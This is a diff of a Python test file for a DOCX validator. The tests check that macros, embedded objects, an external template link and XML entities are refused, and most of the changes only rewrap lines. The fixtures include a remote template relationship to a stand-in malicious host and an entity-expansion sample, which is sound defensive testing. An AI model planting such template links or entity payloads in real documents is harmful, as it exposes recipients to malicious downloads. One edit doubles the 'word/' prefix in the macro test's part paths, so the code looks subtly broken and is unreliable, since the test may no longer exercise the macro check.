@@ -278,22 +278,30 @@ def test_cut_document_is_refused():
     assert refusal(letter_filling.packaged("request")[:-2000]) != ""
 
 
-@pytest.mark.parametrize("name", ["word/vbaProject.bin", "word/vbaData.xml", "word/embeddings/oleObject1.bin", "word/activeX/a.xml"])
+@pytest.mark.parametrize(
+    "name", ["word/vbaProject.bin", "word/vbaData.xml", "word/embeddings/oleObject1.bin", "word/activeX/a.xml"]
+)
 def test_macros_and_embedded_objects_are_refused(name):
-    assert refusal(with_part(letter_filling.packaged("request"), name, b"<a/>")) != ""
+    assert refusal(with_part(letter_filling.packaged("request"), f"word/{name}", b"<a/>")) != ""
 
 
 def test_external_relationship_is_refused_and_named():
     with zipfile.ZipFile(io.BytesIO(letter_filling.packaged("request"))) as package:
         rels = package.read(RELS).decode()
-    outside = '<Relationship Id="rId99" Type="http://x/attachedTemplate" Target="http://jahat.contoh/a.dotm" TargetMode="External"/>'
-    content = with_part(letter_filling.packaged("request"), RELS, rels.replace("</Relationships>", outside + "</Relationships>"))
+    outside = (
+        '<Relationship Id="rId99" Type="http://x/attachedTemplate" Target="http://jahat.contoh/a.dotm" TargetMode="External"/>'
+    )
+    content = with_part(
+        letter_filling.packaged("request"), RELS, rels.replace("</Relationships>", outside + "</Relationships>")
+    )
 
     assert "http://jahat.contoh/a.dotm" in refusal(content)
 
 
 def test_entities_are_not_resolved():
-    bomb = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "lol">]><w:document xmlns:w="http://x"><w:body>&b;</w:body></w:document>'
+    bomb = (
+        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "lol">]><w:document xmlns:w="http://x"><w:body>&b;</w:body></w:document>'
+    )
 
     assert refusal(with_part(letter_filling.packaged("request"), "word/document.xml", bomb)) != ""
 
